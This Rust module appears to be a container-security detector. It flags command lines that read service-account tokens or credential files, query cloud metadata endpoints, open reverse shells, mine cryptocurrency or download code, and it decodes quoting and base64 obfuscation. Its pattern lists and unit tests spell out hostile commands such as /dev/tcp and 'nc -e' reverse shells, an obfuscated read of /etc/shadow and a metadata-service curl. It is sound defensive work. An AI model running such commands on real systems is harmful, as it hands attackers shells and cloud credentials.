//! What a command line does that attackers do: of an exec, or of a container's `command` and `args`.
//!
//! Quotes and backslashes that a shell would drop are dropped, and base64 words are read as well, so
//! that `c"a"t /run/secre\ts/…` and `echo Y2F0… | base64 -d | sh` say what they do.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;

/// A command line, in the forms in which it is looked at.
#[derive(Debug)]
pub(crate) struct Command {
    text: String,
}

/// Where service accounts and cloud identities keep their tokens in a container.
const TOKEN_PLACES: [&str; 10] = [
    "secrets/kubernetes.io/serviceaccount",
    "/serviceaccount/token",
    "secrets/eks.amazonaws.com",
    "secrets/pods.eks.amazonaws.com",
    "secrets/azure/tokens",
    "azure-identity-token",
    "secrets/tokens/",
    "secrets/gcp-ksa",
    "$aws_web_identity_token_file",
    "$azure_federated_token_file",
];

/// Files with which one gets further. The shadow file comes in both forms of its name.
const SENSITIVE_FILES: [&str; 19] = [
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/kubernetes",
    "/var/lib/kubelet",
    "/var/lib/etcd",
    "/var/lib/rancher",
    "/root/.ssh",
    "/.ssh/id_",
    "/.aws/",
    "/.kube/config",
    "/.docker/config.json",
    "/.azure/",
    "/.config/gcloud",
    "/.git-credentials",
    "/proc/1/environ",
    "/proc/self/environ",
    "/.vault-token",
    "/.pgpass",
];

/// The metadata service of the clouds, as people write it to get past filters.
const METADATA_SERVICES: [&str; 11] = [
    "169.254.169.254",
    "169.254.170.2",
    "169.254.170.23",
    "metadata.google.internal",
    "fd00:ec2::254",
    "::ffff:a9fe:a9fe",
    "2852039166",
    "0xa9fea9fe",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
    "100.100.100.200",
];

const REVERSE_SHELLS: [&str; 22] = [
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "ncat --exec",
    "nc.traditional -e",
    "nc -c",
    "mkfifo",
    "mknod /tmp",
    "socat exec",
    "exec:/bin/",
    "exec:'",
    "exec:sh",
    "exec:bash",
    "bash -i >&",
    "sh -i >&",
    "sh -i 2>&1",
    "socket.socket(",
    "io.socket::inet",
    "fsockopen(",
    "tcpsocket.open(",
    "pty.spawn(",
];

const MINERS: [&str; 20] = [
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "ethminer",
    "nbminer",
    "phoenixminer",
    "t-rex -a",
    "kinsing",
    "kdevtmpfsi",
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+tcp",
    "--donate-level",
    "randomx",
    "cryptonight",
    "nanopool.org",
    "minexmr.com",
    "supportxmr.com",
];

const SHELLS_AND_TOOLS: [&str; 22] = [
    "sh", "bash", "ash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "busybox", "kubectl",
    "crictl", "ctr", "docker", "nsenter", "chroot", "python", "python2", "python3", "perl", "ruby",
    "lua",
];

impl Command {
    pub(crate) fn new(line: &str) -> Self {
        let plain = simplified(line);
        let mut text = plain.clone();
        for word in line.split(|c: char| !(c.is_ascii_alphanumeric() || "+/=".contains(c))) {
            if let Some(decoded) = from_base64(word) {
                text.push('\n');
                text.push_str(&simplified(&decoded));
            }
        }
        Command { text }
    }

    fn any_of(&self, marks: &[&'static str]) -> Option<&'static str> {
        marks.iter().copied().find(|mark| self.text.contains(mark))
    }

    /// Reads the token of a service account or a cloud identity.
    pub(crate) fn token(&self) -> Option<&'static str> {
        self.any_of(&TOKEN_PLACES)
    }

    /// Touches a file that holds credentials of the node or of people.
    pub(crate) fn sensitive_file(&self) -> Option<&'static str> {
        self.any_of(&SENSITIVE_FILES)
    }

    /// Asks the cloud's metadata service.
    pub(crate) fn metadata_service(&self) -> Option<&'static str> {
        self.any_of(&METADATA_SERVICES)
    }

    /// Gives somebody else a shell.
    pub(crate) fn reverse_shell(&self) -> Option<&'static str> {
        let piped = || {
            let decodes =
                self.any_of(&["base64 -d", "base64 --decode", "openssl enc -d", "xxd -r"]);
            decodes.filter(|_| self.pipes_to_shell())
        };
        self.any_of(&REVERSE_SHELLS).or_else(piped)
    }

    /// Mines.
    pub(crate) fn miner(&self) -> Option<&'static str> {
        self.any_of(&MINERS)
    }

    /// Fetches something.
    pub(crate) fn download(&self) -> Option<&'static str> {
        let fetches = self
            .words()
            .any(|word| matches!(word, "curl" | "wget" | "aria2c" | "lwp-download"));
        if !fetches {
            return None;
        }
        let remote = self.any_of(&["http://", "https://", "ftp://"])?;
        // Health checks ask the container itself.
        let local = ["://localhost", "://127.0.0.1", "://[::1]"];
        let places = self.text.matches("://").count();
        let at_home: usize = local
            .iter()
            .map(|mark| self.text.matches(mark).count())
            .sum();
        (places > at_home).then_some(remote)
    }

    /// Runs a shell, an interpreter or a tool that leads out of the container.
    pub(crate) fn shell_or_tool(&self) -> Option<&'static str> {
        let program = self.program()?;
        SHELLS_AND_TOOLS.into_iter().find(|tool| *tool == program)
    }

    /// The name of the program, without its folder.
    pub(crate) fn program(&self) -> Option<&str> {
        let first = self
            .text
            .split_whitespace()
            .find(|word| !word.contains('='))?;
        first.rsplit('/').next()
    }

    /// Packs or unpacks an archive on standard input or output, as `kubectl cp` does.
    pub(crate) fn copies_files(&self) -> bool {
        let mut words = self.text.split_whitespace();
        let is_tar = words
            .next()
            .is_some_and(|word| word.rsplit('/').next() == Some("tar"));
        is_tar
            && words.next().is_some_and(|flags| {
                let flags = flags.trim_start_matches('-');
                let known = flags.chars().all(|flag| "cxzvmpf".contains(flag));
                known
                    && flags.contains('f')
                    && flags.contains(['c', 'x'])
                    && self.text.contains(" -")
            })
    }

    fn pipes_to_shell(&self) -> bool {
        self.text.split('|').skip(1).any(|stage| {
            let program = stage.split_whitespace().next().unwrap_or_default();
            matches!(
                program.rsplit('/').next(),
                Some("sh" | "bash" | "ash" | "python" | "python3" | "perl")
            )
        })
    }

    fn words(&self) -> impl Iterator<Item = &str> {
        self.text
            .split(|c: char| c.is_whitespace() || ";|&()<>`$".contains(c))
            .filter_map(|word| word.rsplit('/').next())
    }
}

/// Lower case, single blanks, without what a shell drops.
fn simplified(line: &str) -> String {
    let line = line.replace("${IFS}", " ").replace("$IFS", " ");
    let mut text = String::with_capacity(line.len());
    for c in line.chars() {
        match c {
            '"' | '\'' | '\\' => {}
            c if c.is_whitespace() => {
                if !text.ends_with(' ') {
                    text.push(' ');
                }
            }
            c => text.push(c.to_ascii_lowercase()),
        }
    }
    text.replace("//", "/")
        .replace(":/", "://")
        .replace(":///", "://")
}

/// The text that a base64 word stands for, if it is one and is text.
fn from_base64(word: &str) -> Option<String> {
    /// Shorter words are ordinary words; longer ones are files.
    const LENGTHS: std::ops::RangeInclusive<usize> = 12..=16_384;
    if !LENGTHS.contains(&word.len()) {
        return None;
    }
    let bytes = STANDARD_NO_PAD.decode(word.trim_end_matches('=')).ok()?;
    let text = String::from_utf8(bytes).ok()?;
    text.chars()
        .all(|c| !c.is_control() || c.is_whitespace())
        .then_some(text)
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    #[test]
    fn commands_are_seen_through() {
        let packed = STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        for (line, expected) in [
            (
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "token",
            ),
            (
                "cp -r /run/secrets/kubernetes.io/serviceaccount /tmp",
                "token",
            ),
            (
                "c\"a\"t /var/run/secre\\ts//kubernetes.io/serviceaccount/token",
                "token",
            ),
            ("cat${IFS}/etc/shadow", "file"),
            ("ls -la /root/.ssh", "file"),
            (
                "curl http://169.254.169.254/latest/meta-data",
                "metadata download",
            ),
            ("wget -qO- http://2852039166/", "metadata download"),
            ("nc -e /bin/sh 203.0.113.9 4444", "shell"),
            (
                "sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                "shell tool",
            ),
            ("sh -c echo aGk= | base64 -d | bash", "shell tool"),
            ("/tmp/xmrig -o pool.example:3333", "miner"),
            ("curl -sf http://localhost:8080/healthz", ""),
            ("wget https://files.example/x.sh", "download"),
            ("/bin/bash", "tool"),
            ("TERM=xterm python3 app.py", "tool"),
            ("tar cf - /data", "copy"),
            ("tar xmf - -C /tmp", "copy"),
            ("tar czf backup.tgz data", ""),
            ("nginx -s reload", ""),
            ("pg_isready -U postgres", ""),
            ("curl --fail http://127.0.0.1/", ""),
        ] {
            let command = Command::new(line);
            let found: Vec<&str> = [
                (command.token().is_some(), "token"),
                (command.sensitive_file().is_some(), "file"),
                (command.metadata_service().is_some(), "metadata"),
                (command.reverse_shell().is_some(), "shell"),
                (command.miner().is_some(), "miner"),
                (command.download().is_some(), "download"),
                (command.shell_or_tool().is_some(), "tool"),
                (command.copies_files(), "copy"),
            ]
            .into_iter()
            .filter_map(|(holds, name)| holds.then_some(name))
            .collect();
            assert_eq!(found.join(" "), expected, "{line}");
        }
        let hidden = Command::new(&format!("sh -c echo {packed}"));
        assert_eq!(hidden.reverse_shell(), Some("/dev/tcp/"));
    }
}
